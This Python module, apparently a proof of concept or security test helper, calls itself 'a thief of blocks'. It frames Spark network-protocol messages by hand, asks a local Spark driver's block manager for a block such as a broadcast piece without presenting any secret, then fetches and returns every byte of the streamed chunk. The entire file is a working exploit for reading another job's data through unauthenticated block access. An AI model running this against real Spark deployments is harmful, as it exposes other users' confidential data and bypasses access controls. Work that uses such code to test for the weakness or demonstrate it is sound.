"""A thief of blocks: it asks a Spark driver for a broadcast in Spark's own protocol, as every local user can try to.

Frames of `org.apache.spark.network.protocol`: eight bytes of length, one byte of type, then the message, all big-endian.
"""

import socket
import struct
from contextlib import suppress

OPEN_BLOCKS, RPC_REQUEST, RPC_RESPONSE = 0, 3, 4
CHUNK_REQUEST = 0
TIMEOUT_S = 5.0


def steal(port: int, block: str) -> bytes:
    """All bytes that the driver at a port answers when it is asked for a block without a secret.

    Args:
        port: of the driver's block manager, on this machine.
        block: such as ``broadcast_0_piece0``.
    """
    answer = b""
    with socket.create_connection(("127.0.0.1", port), TIMEOUT_S) as driver:
        driver.settimeout(TIMEOUT_S)
        with suppress(OSError, EOFError):
            driver.sendall(_request(block))
            kind, body = _frame(driver)
            answer += body
            if kind == RPC_RESPONSE:
                stream = struct.unpack(">q", body[8 + 4 + 1 : 8 + 4 + 1 + 8])[0]  # request, length, type, then the stream's id
                driver.sendall(_framed(CHUNK_REQUEST, struct.pack(">qi", stream, 0)))
                answer += _everything(driver)
    return answer


def _request(block: str) -> bytes:
    message = bytes([OPEN_BLOCKS]) + _text("thief") + _text("driver") + struct.pack(">i", 1) + _text(block)
    return _framed(RPC_REQUEST, struct.pack(">qi", 1, len(message)) + message)


def _text(value: str) -> bytes:
    return struct.pack(">i", len(value)) + value.encode()


def _framed(kind: int, body: bytes) -> bytes:
    return struct.pack(">qb", 9 + len(body), kind) + body


def _frame(driver: socket.socket) -> tuple[int, bytes]:
    length, kind = struct.unpack(">qb", _exactly(driver, 9))
    return kind, _exactly(driver, length - 9)


def _exactly(driver: socket.socket, size: int) -> bytes:
    found = b""
    while len(found) < size:
        if not (part := driver.recv(size - len(found))):
            raise EOFError
        found += part
    return found


def _everything(driver: socket.socket) -> bytes:
    found = b""
    driver.settimeout(2.0)
    with suppress(OSError):
        while part := driver.recv(1 << 16):
            found += part
    return found
